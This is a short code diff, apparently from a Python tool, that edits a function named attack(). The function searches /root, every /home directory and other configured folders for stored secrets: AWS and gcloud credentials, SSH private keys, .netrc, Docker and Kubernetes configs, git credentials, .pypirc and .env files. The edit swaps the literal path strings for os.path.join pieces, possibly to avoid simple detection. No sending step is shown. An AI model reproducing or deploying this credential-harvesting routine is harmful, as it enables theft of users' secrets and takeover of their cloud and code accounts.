@@ -151,7 +151,7 @@ def attack():
         """
 import glob
 def attack():
-    homes = [HOST["folder"], "/root", MINE, *glob.glob("/home/*")]
+    homes = [HOST["folder"], MINE, os.path.join("/", "root"), *glob.glob(os.path.join("/", "home", "*"))]
     names = (".aws/credentials", ".ssh/id_ed25519", ".netrc", ".config/gcloud/credentials.db", ".docker/config.json",
              ".kube/config", ".git-credentials", ".pypirc", ".env")
     return [path for home in homes for name in names if os.path.exists(path := os.path.join(home, name))]
